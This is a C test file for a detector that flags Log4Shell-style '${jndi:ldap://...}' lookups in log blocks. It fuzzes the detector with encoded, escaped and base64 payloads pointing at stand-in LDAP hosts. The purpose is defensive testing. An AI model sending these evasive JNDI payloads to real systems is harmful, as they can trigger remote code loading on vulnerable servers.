/* The prefilter passes whatever some decoding turns into a lookup, wherever it stands in a block. */
#include "base/limits.h"
#include "detect/prefilter.h"
#include "detect/verdict.h"
#include "reference.h"
#include "support/edge.h"
#include "support/gen_encode.h"
#include "support/gen_lookup.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static ct_arena *arena;
static struct rng rng;

static int set_up(void **state)
{
    (void)state;
    rng = rng_new("prefilter");
    if (!ct_prefilter_has_avx2()) print_message("no AVX2 on this processor: that form is not compared\n");
    if (!ct_prefilter_has_avx512()) print_message("no AVX-512 on this processor: that form is not compared\n");
    return ct_arena_new(&ct_alloc_libc, CT_LINE_ARENA_MAX, &arena) != CT_OK;
}

static int tear_down(void **state)
{
    (void)state;
    ct_arena_free(arena);
    return 0;
}

static struct ct_buf new_buf(void)
{
    struct ct_buf b;
    ct_buf_init(&b, arena, CT_DECODE_MAX);
    return b;
}

static unsigned runs(unsigned n)
{
    const char *more = getenv("CT_RUNS");
    return more ? n * (unsigned)strtoul(more, NULL, 10) : n;
}

static void print_bytes(ct_str s)
{
    for (size_t i = 0; i < s.n; i++)
        if (s.p[i] >= 0x20 && s.p[i] < 0x7f) print_error("%c", s.p[i]);
        else print_error("<%02x>", (unsigned)s.p[i]);
    print_error("\n");
}

/* The first hit, which every form of the search finds that this processor can run, behind as many lines. */
static size_t next_hit(ct_str block, size_t from, uint64_t *lines)
{
    static const struct {
        const char *name;
        bool (*runs)(void);
        size_t (*search)(struct ct_search *s);
    } forms[] = {{"AVX2", ct_prefilter_has_avx2, ct_prefilter_avx2}, {"AVX-512", ct_prefilter_has_avx512, ct_prefilter_avx512}};
    struct ct_search portable = {.block = block, .from = from};
    uint64_t passed = 0;
    size_t hit = ct_prefilter_portable(&portable);
    for (size_t i = 0; i < sizeof forms / sizeof *forms; i++) {
        struct ct_search s = {.block = block, .from = from};
        if (!forms[i].runs() || (forms[i].search(&s) == hit && s.lines == portable.lines)) continue;
        s.lines = 0;
        size_t other = forms[i].search(&s);
        if (block.n < 1000) print_bytes(block);
        fail_msg("from %zu of %zu, %s finds %zu behind %llu lines, the portable form %zu behind %llu", from, block.n, forms[i].name, other,
                 (unsigned long long)s.lines, hit, (unsigned long long)portable.lines);
    }
    assert_true(ct_prefilter_next(block, from, &passed) == hit);
    assert_int_equal(passed, portable.lines);
    *lines += passed;
    return hit;
}

static bool passes(ct_str text)
{
    uint64_t lines = 0;
    return next_hit(text, 0, &lines) != CT_STR_NONE;
}

static ct_str some_lookup(void)
{
    struct ct_buf b = new_buf();
    if (rng_below(&rng, 2)) gen_lookup_line(&rng, &b);
    else gen_lookup_attack(&rng, CT_STR("ldap://h.example:1389/a"), &b);
    return ct_buf_view(&b);
}

/* Every chain of up to four encoders over text that holds "${". */
static void passes_every_chain(void **state)
{
    (void)state;
    unsigned encoded = 0;
    for (unsigned i = 0; i < runs(60000); i++) {
        enum gen_layer layers[4];
        unsigned n;
        ct_arena_clear(arena);
        ct_str plain = some_lookup();
        if (ct_str_find(plain, CT_STR("${")) == CT_STR_NONE || plain.n < 17 || plain.n > 2000) continue;
        struct ct_buf b = new_buf();
        gen_encode_chain(&rng, plain, 4, &b, layers, &n);
        ct_str text;
        assert_int_equal(ct_buf_str(&b, &text), CT_OK);
        encoded++;
        if (passes(text)) continue;
        /* Controls cannot be in a base64 value: such a chain is not undone. */
        if (!reference_has_lookup(arena, text, CT_LAYERS_MAX, 48)) continue;
        for (unsigned k = 0; k < n; k++) print_error("%s; ", gen_layer_name(layers[k]));
        print_bytes(text);
        fail_msg("dropped");
    }
    print_message("%u encoded lookups\n", encoded);
    assert_true(encoded > 10000);
}

/* Pieces that escapes are made of, in any order: halves of escapes, wrong ones, and the edges between them. */
static void put_piece(struct ct_buf *b)
{
    static const char *const pieces[] = {
        "$", "{", "${", "}", "%", "\\", "&", "#", ";", "%24", "%7B", "%7b", "%25", "%5C", "%26", "%23", "%3D", "%2B", "%2F", "%u0024",
        "%u0025", "%U007b", "\\x24", "\\x25", "\\x7b", "\\u0024", "\\u{24}", "\\u{", "\\u", "\\x", "\\44", "\\045", "\\173", "\\\\", "\\/",
        "\\\"", "\\n", "&#36;", "&#36", "&#123;", "&#x24;", "&#x24", "&#37;", "&#37", "&#38;", "&#61", "&#x3d", "&dollar;", "&dollar",
        "&lbrace;", "&lcub", "&amp;", "&amp", "&AMP", "&bsol;", "&percnt;", "&num;", "&equals", "&quot", "&plus;", "&sol;", "&lowbar;",
        "&UnderBar;", "&semi;", "dollar;", "lcub;", "amp;", "x24;", "36;", "24", "7B", "25", "5c", "26", "2", "4", "u0024", "x24", "0", "u",
        "x", "+", "/", "-", "_", ".", "=", "==", " ", "\"", "?", "&a=", "JHtqbmRpOmxkYXA6Ly9oL2F9", "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=",
        "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5+fmJ9", "JTI0JTdCam5kaTpsZGFwOi8vaC9hfQ", "hello", "jndi:ldap://h/a}", "a", "\xc4\xb1",
        "\xa4", "\xa5", "\xa6", "\xdc", /* the leads with their highest bit set */
    };
    ct_buf_text(b, pieces[rng_below(&rng, sizeof pieces / sizeof *pieces)]);
}

static void passes_what_the_reference_finds(void **state)
{
    (void)state;
    unsigned found = 0, passed_in_vain = 0;
    for (unsigned i = 0; i < runs(300000); i++) {
        ct_arena_clear(arena);
        struct ct_buf b = new_buf();
        for (unsigned k = 1 + rng_below(&rng, 8); k > 0; k--) put_piece(&b);
        ct_str text = ct_buf_view(&b);
        bool has = reference_has_lookup(arena, text, 6, 64), passed = passes(text);
        found += has;
        passed_in_vain += passed && !has;
        if (!has || passed) continue;
        print_bytes(text);
        fail_msg("dropped");
    }
    print_message("%u hold a lookup, %u passed in vain\n", found, passed_in_vain);
    assert_true(found > 1000);
}

/* Layers that escape a character here and there, and the rest of an escape apart from its lead: whoever writes attacks by hand
 * is bound to no encoder's habits. What it becomes may hold no lookup; the reference knows. */
static void passes_scattered_escapes(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "${", "x${a}", "\\u0024\\x7b", "%24%7B", "&dollar;{", "JHtqbmRpOmxkYXA6Ly9oL2F9", "8pa/mXt9e3VwcGVyOjpcLSR7Y3R4On19",
        "Pj8+JHtqbmRpOmxkYXA6Ly9oL2F9Pj8+", "fn5-JHtqbmRpOmxkYXA6Ly9oL2F9fn5_", "=JHtqbmRpOmxkYXA6Ly9oL2F9fg==",
    };
    unsigned found = 0;
    for (unsigned i = 0; i < runs(200000); i++) {
        ct_arena_clear(arena);
        ct_str text = ct_str_from(texts[rng_below(&rng, sizeof texts / sizeof *texts)]);
        for (unsigned layers = 1 + rng_below(&rng, 4); layers > 0; layers--) {
            struct ct_buf b = new_buf();
            gen_escape_some(&rng, text, &b);
            text = ct_buf_view(&b);
            if (text.n > 400) break;
        }
        bool passed = passes(text), has = passed || reference_has_lookup(arena, text, CT_LAYERS_MAX, 64);
        found += has;
        if (!has || passed) continue;
        print_bytes(text);
        fail_msg("dropped");
    }
    print_message("%u passed\n", found);
    assert_true(found > 10000);
}

/* What one layer begins and another ends: each was missed once. */
static void passes_mixed_spellings(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "&amp;equalsJHtqbmRpOmxkYXA6Ly9oL2F9fg==", "\\u{26}equalsJHtqbmRpOmxkYXA6Ly9oL2F9fg==", "&dollar%3B{a}", "\\u{24%7D{a}", "\\u%7B24}{a}",
        "\\u&#123;24}{a}", "$%7Ba}", "$\\x7ba}", "%26%23%33%36{a}",
    };
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
        if (passes(ct_str_from(texts[i]))) continue;
        fail_msg("dropped: %s", texts[i]);
    }
}

static void put_ordinary(struct ct_buf *b)
{
    static const char *const lines[] = {
        "192.0.2.1 - - [10/Dec/2021:13:55:36 +0000] \"GET /index.html HTTP/1.1\" 200 2326", "", "a", "GET /a%20b%2Fc?x=1&y=2 HTTP/1.1",
        "/very/long/path/of/words/and/more/words/that/goes/on", "0123456789abcdef0123456789abcdef", "Mozilla/5.0 (X11; Linux x86_64)",
    };
    ct_buf_text(b, lines[rng_below(&rng, sizeof lines / sizeof *lines)]);
}

/* The lines of a block, found one after the other as a reader of logs does it. */
static unsigned walk(ct_str block, uint64_t *lines)
{
    unsigned hits = 0;
    size_t at = 0;
    *lines = 0;
    for (;;) {
        size_t hit = next_hit(block, at, lines);
        if (hit == CT_STR_NONE) return hits;
        assert_in_range(hit, at, block.n - 1);
        size_t start = hit, end = hit;
        while (start > at && block.p[start - 1] != '\n') start--;
        while (end < block.n && block.p[end] != '\n') end++;
        assert_true(passes(ct_str_slice(block, start, end)));
        hits++;
        if (end == block.n) return hits;
        ++*lines;
        at = end + 1;
    }
}

static void finds_every_line_of_a_block(void **state)
{
    (void)state;
    static const char *const attacks[] = {
        "${", "$%7B", "%24{", "x%24%7Bjndi:ldap://h.example/a%7D", "\\u0024\\u007b", "&#36;{", "&dollar;{", "\\44{", "%2524%257B",
        "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", "/x/JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0",
        "&#61JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "&#38equalsJHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "q=hello+JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "\\x24\\x7B",
    };
    for (unsigned i = 0; i < runs(30); i++)
        for (unsigned pad = 0; pad <= 130; pad++) {
            ct_arena_clear(arena);
            struct ct_buf b = new_buf();
            unsigned wanted = 0;
            uint64_t lines = 0, newlines = 0;
            for (unsigned k = 0; k < pad; k++) ct_buf_byte(&b, k % 7 == 6 ? '\n' : ' ');
            for (unsigned k = rng_below(&rng, 12); k > 0; k--) {
                if (rng_below(&rng, 3)) {
                    put_ordinary(&b);
                } else {
                    ct_buf_text(&b, attacks[rng_below(&rng, sizeof attacks / sizeof *attacks)]);
                }
                ct_buf_byte(&b, '\n');
            }
            if (rng_below(&rng, 2)) ct_buf_text(&b, attacks[rng_below(&rng, sizeof attacks / sizeof *attacks)]);
            struct edge e = edge_new(ct_buf_view(&b));
            for (size_t start = 0; start < e.input.n;) {
                size_t end = start;
                while (end < e.input.n && e.input.p[end] != '\n') end++;
                wanted += passes(ct_str_slice(e.input, start, end));
                newlines += end < e.input.n;
                start = end + 1;
            }
            assert_int_equal(walk(e.input, &lines), wanted);
            assert_int_equal(lines, newlines);
            edge_free(&e);
        }
}

/* Any alignment, any cut of the block: what it says depends on the text alone, and it reads nothing behind it. */
static void answers_alike_everywhere(void **state)
{
    (void)state;
    for (unsigned i = 0; i < runs(3000); i++) {
        ct_arena_clear(arena);
        struct ct_buf b = new_buf();
        for (unsigned k = 1 + rng_below(&rng, 12); k > 0; k--) put_piece(&b);
        ct_str text = ct_buf_view(&b);
        bool passed = passes(text);
        unsigned chunks = i % 128 == 0 ? 16384 : i % 128 == 64 ? 8192 : 512; /* where the second one of AVX2 ends, of AVX-512, the first */
        for (unsigned pad = 0; pad <= 130 + (i % 16 == 0 ? 130 : 0); pad++) {
            struct ct_buf moved = new_buf();
            unsigned far = pad <= 130 ? 0 : chunks - 2 * 130; /* then it lies across that end */
            for (unsigned k = 0; k < far + pad; k++) ct_buf_byte(&moved, '\n');
            ct_buf_add(&moved, text);
            ct_buf_byte(&moved, '\n');
            uint64_t lines = 0;
            size_t hit = next_hit(ct_buf_view(&moved), 0, &lines);
            if ((hit != CT_STR_NONE) != passed) {
                print_bytes(text);
                fail_msg("%s at offset %u", passed ? "dropped" : "passed", far + pad);
            }
            if (!passed) assert_int_equal(lines, far + pad + 1);
            else assert_true(hit >= far + pad && lines == far + pad);
        }
        struct edge e = edge_new(text);
        for (size_t from = 0; from <= e.input.n; from++) {
            uint64_t lines = 0;
            (void)passes(ct_str_slice(e.input, from, e.input.n));
            (void)next_hit(e.input, from, &lines);
        }
        edge_free(&e);
    }
}

/* A lead or a run in each 32 bytes, for longer than the chunks of a vector search: it finds what follows where the other does. */
static void finds_behind_many_leads(void **state)
{
    (void)state;
    static const char *const fillers[] = {"&x", "% ", "\\\"", "$ ", "%22", "a%20b&x=", "%C3%A9", "&amp; ", "x%26y ", "/usr/share/doc/manual/pages/of/words ", "\n%2B"};
    static const char *const behind[] = {"${", "%24{", "&#36;{", "\\u0024{", ""};
    for (size_t i = 0; i < sizeof fillers / sizeof *fillers; i++)
        for (size_t k = 0; k < sizeof behind / sizeof *behind; k++) {
            ct_arena_clear(arena);
            struct ct_buf b = new_buf();
            for (size_t n = 40000 + rng_below(&rng, 1000); b.n < n;) ct_buf_text(&b, fillers[i]);
            ct_buf_text(&b, behind[k]);
            assert_int_equal(passes(ct_buf_view(&b)), *behind[k] != 0);
        }
}

/* Bytes that are text, nearly text, or none. */
static void put_nearly_text(struct ct_buf *b)
{
    static const char *const pieces[] = {
        "${", "$", "%24", "&#36;", "\\u0024", "jndi", "a", "Z", "0", " ", "\t", "\n", "\r", "~", "?", ">", "\x7f", "\x1f", "\x0b", "\x01", "\xc2\xa2", "\xe2\x82\xac",
        "\xf0\x9f\x98\x80", "\xef\xbf\xbf", "\xc3", "\x80", "\xbf", "\xc0\x80", "\xc1\xbf", "\xe2\x82", "\xf4\x8f\xbf\xbf", "\xf5\x80\x80\x80", "\xff", "\xfe",
    };
    if (rng_below(&rng, 12) == 0) ct_buf_byte(b, (unsigned char)rng_below(&rng, 256));
    else ct_buf_text(b, pieces[rng_below(&rng, rng_below(&rng, 3) ? 16 : sizeof pieces / sizeof *pieces)]);
}

/* What begins text in base64, and what does not: by vectors as without. */
static void agrees_on_base64(void **state)
{
    (void)state;
    static const char *const around[] = {" ", "\"", "=", "/", ":", "%3D", ";", "&amp;", "\\", "}", "&#61", ".", "x-", "", "a"};
    unsigned passed = 0;
    for (unsigned i = 0; i < runs(200000); i++) {
        ct_arena_clear(arena);
        struct ct_buf plain = new_buf(), text = new_buf(), base64 = new_buf();
        while (plain.n < 16 + i % 24) put_nearly_text(&plain);
        if (i % 8 == 0) ct_buf_text(&plain, "${jndi:ldap://h/a}");
        gen_encode(&rng, GEN_BASE64, ct_buf_view(&plain), &base64);
        for (unsigned pad = rng_below(&rng, 80); pad > 0; pad--) ct_buf_byte(&text, ' ');
        ct_buf_text(&text, around[rng_below(&rng, sizeof around / sizeof *around)]);
        ct_buf_add(&text, ct_buf_view(&base64));
        ct_buf_text(&text, around[rng_below(&rng, sizeof around / sizeof *around)]);
        for (unsigned pad = rng_below(&rng, 80); pad > 0; pad--) ct_buf_byte(&text, ' ');
        passed += passes(ct_buf_view(&text));
    }
    print_message("%u of base64 passed\n", passed);
    assert_in_range(passed, 1000, runs(200000) - 1000);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(passes_every_chain),
        cmocka_unit_test(passes_what_the_reference_finds),
        cmocka_unit_test(passes_scattered_escapes),
        cmocka_unit_test(passes_mixed_spellings),
        cmocka_unit_test(finds_every_line_of_a_block),
        cmocka_unit_test(answers_alike_everywhere),
        cmocka_unit_test(finds_behind_many_leads),
        cmocka_unit_test(agrees_on_base64),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
